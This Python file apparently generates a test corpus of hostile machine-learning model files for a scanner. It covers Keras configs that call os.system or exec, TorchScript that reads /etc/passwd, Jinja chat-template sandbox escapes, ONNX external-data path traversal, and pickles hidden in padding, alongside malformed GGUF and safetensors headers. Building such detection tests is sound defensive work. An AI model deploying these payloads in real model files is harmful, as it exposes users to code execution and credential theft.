"""Classes 28 to 33: code and traps in Keras, TorchScript, templates, GGUF, safetensors and ONNX files."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator
from typing import Any

from corpora.archives import Member, zipped
from corpora.assembler import call, payload, pickled, value
from corpora.formats import (
    FLOATS,
    GGUF_ARRAY,
    GGUF_STRING,
    architecture,
    entry,
    gguf,
    gguf_key,
    gguf_string,
    gguf_tensor,
    onnx,
    protobuf,
    safetensors,
    tflite,
    torch_zip,
)
from corpora.hdf5 import hdf5
from corpora.item import BROKEN, CAUGHT, CODE, HARM, MALICIOUS, NEEDS_TRUST, Item, one

INNER = payload()


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers", **more: Any) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}


def _model(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    config = {"name": "model", "layers": list(layers)}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **more}


def _keras(config: object, **members: bytes) -> bytes:
    files = {"metadata.json": b'{"keras_version": "3.9.0"}', "config.json": json.dumps(config).encode()}
    return zipped(
        {**files, "model.weights.h5": hdf5(), **{name.replace("__", "/"): data for name, data in members.items()}}
    )


def keras() -> Iterator[Item]:
    """Class 28."""
    code = base64.b64encode(b"\xe3" + bytes(40)).decode()
    lambdas = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    configs: dict[str, dict[str, Any]] = {
        "lambda": _model(_layer("Lambda", {"function": lambdas})),
        "lambda-list": _model(_layer("Lambda", {"function": [code, None, None], "function_type": "lambda"})),
        "lambda-name": _model(_layer("Lambda", {"function": "system", "module": "os", "function_type": "function"})),
        "module-os": _model(_layer("system", {"command": "true"}, module="os")),
        "module-subprocess": _model(
            {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}, "registered_name": None}
        ),
        "function-config": _model(
            _layer(
                "Dense",
                {
                    "activation": {
                        "module": "builtins",
                        "class_name": "function",
                        "config": "exec",
                        "registered_name": "function",
                    }
                },
            )
        ),
        "root-module": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
        "get-file": _model(
            _layer(
                "Lambda",
                {
                    "function": {
                        "module": "keras.utils",
                        "class_name": "function",
                        "config": "get_file",
                        "registered_name": "get_file",
                    },
                    "arguments": {"origin": "https://example.invalid/x.tar", "extract": True},
                },
            )
        ),
        "unsafe-deserialisation": _model(
            {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "x",
            }
        ),
        "unsafe-deserialisation-nested": _model(
            _layer(
                "Dense",
                {
                    "kernel_initializer": {
                        "module": "keras.src.config",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                        "registered_name": "x",
                    }
                },
            )
        ),
        "torch-module-wrapper": _model(_layer("TorchModuleWrapper", {"module": base64.b64encode(INNER).decode()})),
        "string-lookup-path": _model(_layer("StringLookup", {"vocabulary": "/etc/passwd"})),
        "string-lookup-address": _model(
            _layer("IndexLookup", {"vocabulary": "https://example.invalid/vocabulary.txt"})
        ),
        "tfsm-layer": _model(_layer("TFSMLayer", {"filepath": "/tmp/saved_model", "call_endpoint": "serve"})),
        "tfsm-layer-remote": _model(_layer("TFSMLayer", {"filepath": "gs://evil/saved_model"})),
        "registered-name": _model(_layer("Dense", {}, registered_name="evil>Layer", build_config={})),
        "unknown-class": _model(_layer("EvilLayer", {})),
        "package-elsewhere": _model(_layer("Layer", {}, module="evil.layers")),
        "compile-config": _model(
            _layer("Dense", {"units": 1}),
            compile_config={
                "loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
            },
        ),
    }
    for name, config in configs.items():
        best = NEEDS_TRUST if name in ("unknown-class", "registered-name", "package-elsewhere") else MALICIOUS
        yield one("28-keras", f"{name}.keras", _keras(config), CODE, best)
    for name in ("lambda", "lambda-list", "module-os", "function-config"):
        old = hdf5(attributes={"model_config": json.dumps(configs[name]), "keras_version": "2.15.0"})
        yield one("28-keras", f"{name}.h5", old, CODE, MALICIOUS)
    # JSON has no tuples: this form represents Python's, and the loader of .h5 files turns it into tuples.
    of_tuple = _model(_layer("Lambda", {"function": {"class_name": "__tuple__", "items": [code, None, None]}}))
    old = hdf5(attributes={"model_config": json.dumps(of_tuple), "keras_version": "2.15.0"})
    yield one("28-keras", "lambda-tuple.h5", old, CODE, MALICIOUS)
    plain = _model(_layer("Dense", {"units": 1}))
    yield one("28-keras", "pickle-member.keras", _keras(plain, assets__vocabulary_pkl=INNER), CAUGHT, MALICIOUS)
    external = hdf5(external={"kernel": ("/etc/passwd", "/x")})
    yield one("28-keras", "external-link.h5", external, HARM)
    yield one("28-keras", "external-link-up.h5", hdf5(external={"kernel": ("../../secret.h5", "/x")}), HARM)
    yield one("28-keras", "external-storage.h5", hdf5(stored_in="/etc/passwd"), HARM)
    inside = zipped({"metadata.json": b"{}", "config.json": json.dumps(plain).encode(), "model.weights.h5": external})
    yield one("28-keras", "external-link.keras", inside, CAUGHT, MALICIOUS)
    folder = {
        "config.json": json.dumps(configs["lambda"]).encode(),
        "model.weights.h5": hdf5(),
        "metadata.json": b'{"keras_version": "3.9.0"}',
    }
    yield Item("unpacked-keras", folder, "28-keras", CODE, MALICIOUS)
    for name, operator in {"custom-operator": "RunCommand", "flex-write-file": "FlexWriteFile"}.items():
        yield one(
            "28-keras", f"{name}.tflite", tflite("Mfcc", operator), CODE, NEEDS_TRUST, [operator.removeprefix("Flex")]
        )
    yield one("28-keras", "cut.tflite", tflite("RunCommand")[:-12], frozenset({BROKEN}))
    for name, files in _saved_models(json.dumps(configs["lambda"])).items():
        yield Item(name, files, "28-keras", CAUGHT, MALICIOUS)
    yield one("28-keras", "model-json.json", json.dumps(configs["lambda"]).encode(), CODE, MALICIOUS)


def _saved_models(config: str) -> dict[str, dict[str, bytes]]:
    """TensorFlow folders with a Keras model of this configuration, and one whose graph is a text file."""
    graph = protobuf((2, protobuf((1, protobuf((1, "product"), (2, "MatMul"))))))
    layer = protobuf((2, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, config))
    older = protobuf((7, protobuf((1, protobuf((4, protobuf((1, "_tf_keras_layer"), (3, config))))))))
    text = b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "r" op: "ReadFile" } } }\n'
    return {
        "saved-model-lambda": {
            "saved_model.pb": protobuf((1, 1), (2, graph)),
            "keras_metadata.pb": protobuf((1, layer)),
        },
        # The form of TensorFlow before 2.5, which is loaded if the other file is missing.
        "saved-model-lambda-within": {"saved_model.pb": protobuf((1, 1), (2, graph + older))},
        "saved-model-as-text": {"saved_model.pbtxt": text, "fingerprint.pb": b"\x09" + bytes(8)},
    }


def torchscript() -> Iterator[Item]:
    """Class 29."""
    bodies = {
        "save": "    ops.aten.save(x, '/tmp/x')\n    torch.save(x, '/tmp/x')\n",
        "from-file": "    y = torch.from_file('/etc/passwd', False, 100)\n",
        "load": "    y = torch.load('/tmp/evil.pt')\n",
        "operator-from-file": "    y = ops.aten.from_file('/etc/passwd', None, 10)\n",
        "annotation": "    y = annotate(__import__('os').system('true'), x)\n",
        "custom-operator": "    y = ops.evil.run('true')\n",
        "warn": "    _0 = torch.warn('x')\n",
        "plain": "    return x\n",
    }
    for name, body in bodies.items():
        code = (
            "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n"
            + body
        )
        members = {
            "m/data.pkl": pickled(call("__torch__", "M", form="newobj")),
            "m/code/__torch__.py": code.encode(),
            "m/code/__torch__.py.debug_pkl": pickled(value(())),
            "m/constants.pkl": pickled(value(())),
            "m/version": b"3\n",
        }
        best = MALICIOUS if name not in ("plain", "warn", "custom-operator") else NEEDS_TRUST
        yield one("29-torchscript", f"{name}.pt", zipped(members), CODE, best)


TEMPLATES = {
    "init-globals": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "mro": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c }}{% endfor %}",
    "subscript": "{{ messages['__class__']['__base__'] }}",
    "attr-filter": "{{ messages | attr('__class__') }}",
    "attr-joined": "{{ messages | attr('__cla' ~ 'ss__') }}",
    "attr-added": "{{ messages | attr('__cla' + 'ss__') }}",
    "attr-reversed": "{{ messages | attr('__ssalc__'[::-1]) }}",
    "attr-escaped": "{{ messages | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr-format": "{{ messages | attr('%c%cclass%c%c' % (95, 95, 95, 95)) }}",
    "attr-set": "{% set a = '_' * 2 ~ 'class' ~ '_' * 2 %}{{ messages | attr(a) }}",
    "map-attribute": "{{ [messages] | map(attribute='__class__') | list }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('true').read() }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "self": "{{ self._TemplateReference__context }}",
    "config": "{{ config.__class__.from_envvar }}",
    "request": "{{ request.application.__globals__ }}",
    "format-string": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "raise-exception": "{{ raise_exception.__globals__ }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.system('true') }}",
    "in-a-comment-and-after": "{# harmless #}{{ ''.__class__ }}",
    "in-a-macro": "{% macro m(x) %}{{ x.__class__ }}{% endmacro %}{{ m(1) }}",
    "in-a-condition": "{% if messages.__class__ %}x{% endif %}",
    "huge-range": "{% for a in range(999999999) %}{{ a }}{% endfor %}",
    "bad-syntax": "{{ messages.__class__ ",
}


def templates() -> Iterator[Item]:
    """Class 30."""
    group = "30-templates"
    for number, (name, template) in enumerate(TEMPLATES.items()):
        keys = [architecture(), gguf_key("tokenizer.chat_template", GGUF_STRING, template)]
        listed = {"chat_template": [{"name": "default", "template": "ok"}, {"name": "tool_use", "template": template}]}
        forms = [
            one(group, f"{name}.gguf", gguf(keys), CAUGHT, MALICIOUS),
            Item(
                f"{name}-config",
                {"tokenizer_config.json": json.dumps({"chat_template": template}).encode()},
                group,
                CAUGHT,
                MALICIOUS,
            ),
            Item(f"{name}-jinja", {"chat_template.jinja": template.encode()}, group, CAUGHT, MALICIOUS),
            Item(f"{name}-list", {"tokenizer_config.json": json.dumps(listed).encode()}, group, CAUGHT, MALICIOUS),
            Item(
                f"{name}-json",
                {"chat_template.json": json.dumps({"chat_template": template}).encode()},
                group,
                CAUGHT,
                MALICIOUS,
            ),
        ]
        yield forms[0]
        yield forms[1 + number % 4]
    evil = TEMPLATES["lipsum"]
    named = [architecture(), gguf_key("tokenizer.chat_template.tool_use", GGUF_STRING, evil)]
    yield one(group, "named-template.gguf", gguf(named), CAUGHT, MALICIOUS)
    header = {"__metadata__": {"chat_template": evil}, "w": entry("F32", [4], 0, 16)}
    yield one(group, "metadata.safetensors", safetensors(header, FLOATS), CAUGHT, MALICIOUS)
    yield Item("additional", {"additional_chat_templates/rag.jinja": evil.encode()}, group, CAUGHT, MALICIOUS)
    yield Item(
        "processor", {"processor_config.json": json.dumps({"chat_template": evil}).encode()}, group, CAUGHT, MALICIOUS
    )


def gguf_files() -> Iterator[Item]:
    """Class 31."""
    keys = [architecture()]
    big = 1 << 60
    cases = {
        "tensor-count": gguf(keys, counts=(big, 1)),
        "key-count": gguf(keys, counts=(1, big)),
        "both-counts": gguf(keys, counts=(2**64 - 1, 2**64 - 1)),
        "string-length": gguf([struct.pack("<Q", 2**64 - 1) + b"general"]),
        "value-length": gguf([gguf_string("general.architecture") + struct.pack("<IQ", 8, 2**64 - 1)]),
        "array-length": gguf([gguf_string("a") + struct.pack("<IIQ", GGUF_ARRAY, 4, 2**61)]),
        "array-of-arrays": gguf([gguf_string("a") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 500]),
        "dimensions-200": gguf(keys, [gguf_tensor("w", [1] * 200, 0, 0)]),
        "dimensions-2-32": gguf(keys, [gguf_string("w") + struct.pack("<I", 2**32 - 1)]),
        "shape-overflow": gguf(keys, [gguf_tensor("w", [2**32, 2**32], 0, 0)]),
        "shape-overflow-to-little": gguf(keys, [gguf_tensor("w", [2**62 + 8, 4], 0, 0)]),
        "size-overflow": gguf(keys, [gguf_tensor("w", [2**61], 0, 0), gguf_tensor("v", [2**61], 0, 32)]),
        "size-padding-overflow": gguf(keys, [gguf_tensor("w", [2**62 - 1], 0, 0)]),
        "offset-beyond": gguf(keys, [gguf_tensor("w", [8], 0, 1 << 40)]),
        "offset-wraps": gguf(keys, [gguf_tensor("w", [8], 0, 2**64 - 32)]),
        "size-beyond": gguf(keys, [gguf_tensor("w", [1 << 20], 0, 0)]),
        "offset-odd": gguf(keys, [gguf_tensor("w", [8], 0, 7)]),
        "alignment-zero": gguf([*keys, gguf_key("general.alignment", 4, 0)]),
        "alignment-huge": gguf([*keys, gguf_key("general.alignment", 4, 1 << 31)]),
        "overlap": gguf(keys, [gguf_tensor("w", [8], 0, 0), gguf_tensor("v", [8], 0, 0)]),
        "duplicate-name": gguf(keys, [gguf_tensor("w", [8], 0, 0), gguf_tensor("w", [8], 0, 32)], bytes(64)),
        "duplicate-key": gguf([*keys, *keys]),
        "name-not-utf8": gguf(keys, [gguf_tensor(b"\xff\xfe", [8], 0, 0)]),
        "version-0": gguf(keys, version=0),
        "version-9": gguf(keys, version=9),
        "value-type-99": gguf([gguf_string("a") + struct.pack("<IQ", 99, 0)]),
        "dimension-zero": gguf(keys, [gguf_tensor("w", [0, 2**63], 0, 0)]),
        "pickle-after": gguf(keys) + INNER,
        "pickle-in-padding": gguf(
            keys,
            [gguf_tensor("w", [8], 0, 0), gguf_tensor("v", [8], 0, 128)],
            bytes(32) + INNER.ljust(96, b"\0") + bytes(32),
        ),
        "zip-after": gguf(keys) + torch_zip(INNER),
        "block-count": gguf(
            [
                *keys,
                gguf_key("tokenizer.ggml.tokens", 9, (8, ["a"])),
                gguf_string("x") + struct.pack("<IIQ", 9, 8, 2**40),
            ]
        ),
    }
    for name, data in cases.items():
        yield one("31-gguf", f"{name}.gguf", data, CAUGHT)


def safetensors_files() -> Iterator[Item]:
    """Class 32."""
    good = entry("F32", [4], 0, 16)
    archive = torch_zip(INNER)
    polyglot_head = json.dumps({"w": entry("U8", [len(archive)], 0, len(archive))}).encode()
    twice = (
        b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    )
    keys_twice = b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16],"dtype":"I32"}}'
    cases = {
        "header-length-2-40": struct.pack("<Q", 1 << 40) + b"{}",
        "header-length-2-64": struct.pack("<Q", 2**64 - 1) + b"{}",
        "header-length-beyond": struct.pack("<Q", 5000) + b"{}",
        "duplicate-name": safetensors(twice, FLOATS),
        "duplicate-field": safetensors(keys_twice, FLOATS),
        "overlap": safetensors({"a": good, "b": entry("F32", [2], 8, 16)}, FLOATS),
        "same-bytes": safetensors({"a": good, "b": good}, FLOATS),
        "hole": safetensors({"a": good, "b": entry("F32", [4], 32, 48)}, bytes(48)),
        "hole-with-pickle": safetensors(
            {"a": good, "b": entry("F32", [4], 64, 80)}, FLOATS + INNER.ljust(48, b"\0") + FLOATS
        ),
        "hole-at-start": safetensors({"a": entry("F32", [4], 48, 64)}, INNER.ljust(48, b"\0") + FLOATS),
        "trailing": safetensors({"a": good}, FLOATS + b"abc"),
        "trailing-pickle": safetensors({"a": good}, FLOATS + INNER),
        "trailing-zip": safetensors({"a": good}, FLOATS + archive),
        "zip-in-tensor": safetensors(polyglot_head, archive),
        "zip-in-tensor-and-tail": safetensors({"a": good}, FLOATS) + archive,
        "shape-overflow": safetensors({"a": entry("F32", [2**62, 4], 0, 16)}, FLOATS),
        "shape-overflow-to-16": safetensors({"a": entry("F32", [2**62 + 1, 4], 0, 16)}, FLOATS),
        "negative": safetensors({"a": entry("F32", [-4], 0, 16)}, FLOATS),
        "end-before-start": safetensors({"a": entry("F32", [4], 16, 0)}, FLOATS),
        "beyond-the-file": safetensors({"a": entry("F32", [1 << 20], 0, 1 << 22)}, FLOATS),
        "wrong-size": safetensors({"a": entry("F32", [5], 0, 16)}, FLOATS),
        "deep-json": safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        "float-offset": safetensors(b'{"a":{"dtype":"F32","shape":[4.0],"data_offsets":[0,16]}}', FLOATS),
        "huge-number": safetensors(b'{"a":{"dtype":"F32","shape":[1e400],"data_offsets":[0,16]}}', FLOATS),
        "nan": safetensors(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,16]}}', FLOATS),
        "header-not-utf8": safetensors(b'{"\xff":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', FLOATS),
        "nul-in-header": safetensors(json.dumps({"a": good}).encode() + b"\0" * 8, FLOATS),
        "pickle-behind-header": safetensors(json.dumps({"a": good}).encode() + b" " * 8 + b"}" + INNER, FLOATS),
        "metadata-not-text": safetensors({"__metadata__": {"format": {"a": 1}}, "a": good}, FLOATS),
    }
    for name, data in cases.items():
        yield one("32-safetensors", f"{name}.safetensors", data, CAUGHT)
    metadata = {
        "python": "import os; os.system('true')",
        "exec": "exec(__import__('base64').b64decode('dHJ1ZQ=='))",
        "pickle": base64.b64encode(INNER).decode(),
    }
    for name, text in metadata.items():
        data = safetensors({"__metadata__": {"loader": text}, "a": good}, FLOATS)
        yield one("32-safetensors", f"metadata-{name}.safetensors", data, CAUGHT)


def onnx_files() -> Iterator[Item]:
    """Class 33."""
    for name, location in {
        "up": "../secret.bin",
        "absolute": "/etc/passwd",
        "hidden-up": "a/../../secret.bin",
        "backslash": "..\\secret.bin",
        "drive": "C:\\secret.bin",
        "address": "https://example.invalid/weights.bin",
        "home": "~/secret.bin",
        "proc": "/proc/self/environ",
    }.items():
        yield Item(f"external-{name}", {"model.onnx": onnx(location)}, "33-onnx", CAUGHT, MALICIOUS)
    model = onnx("weights.bin")
    yield Item(
        "external-link", {"model.onnx": model}, "33-onnx", CAUGHT, MALICIOUS, links={"weights.bin": "/etc/passwd"}
    )
    yield Item(
        "external-link-of-folder",
        {"model.onnx": onnx("data/weights.bin")},
        "33-onnx",
        CAUGHT,
        MALICIOUS,
        links={"data": "/etc"},
    )
    hard = {"model.onnx": model, "outside/secret.bin": FLOATS}
    yield Item(
        "external-hard-link", hard, "33-onnx", CAUGHT, MALICIOUS, hardlinks={"weights.bin": "outside/secret.bin"}
    )
    yield Item("external-missing", {"model.onnx": model}, "33-onnx", frozenset({BROKEN}))
    for name, declared in {
        "short": {"offset": "0", "length": "16"},
        "offset-beyond": {"offset": "4096"},
        "offset-2-64": {"offset": str(2**64 - 8), "length": "16"},
        "offset-negative": {"offset": "-16"},
    }.items():
        files = {"model.onnx": onnx("weights.bin", declared=declared), "weights.bin": bytes(range(1, 13))}
        yield Item(f"external-{name}", files, "33-onnx", frozenset({BROKEN}))
    yield one(
        "33-onnx",
        "custom-domain.onnx",
        onnx(domain="com.evil.ops", operator="RunCommand"),
        CODE,
        NEEDS_TRUST,
        ["com.evil.ops"],
    )
    yield one(
        "33-onnx",
        "python-operator.onnx",
        onnx(domain="ai.onnx.contrib", operator="PyOp"),
        CODE,
        NEEDS_TRUST,
        ["ai.onnx.contrib"],
    )
    yield one("33-onnx", "pickle-after.onnx", onnx() + INNER, CAUGHT)
    yield one("33-onnx", "cut.onnx", onnx()[:-5], CAUGHT)
    yield one("33-onnx", "length-2-60.onnx", protobuf((1, 8), (2, "corpus")) + b"\x3a" + b"\xff" * 8 + b"\x0f", CAUGHT)


def items() -> Iterator[Item]:
    """All of them."""
    for group in (keras, torchscript, templates, gguf_files, safetensors_files, onnx_files):
        yield from group()
    members = [Member("archive/data.pkl", pickled(value({}))), Member("archive/version", b"3\n")]
    data = zipped([*members, Member("archive/extra/chat_template.jinja", TEMPLATES["lipsum"].encode())])
    yield one("30-templates", "in-an-archive.pt", data, CAUGHT)
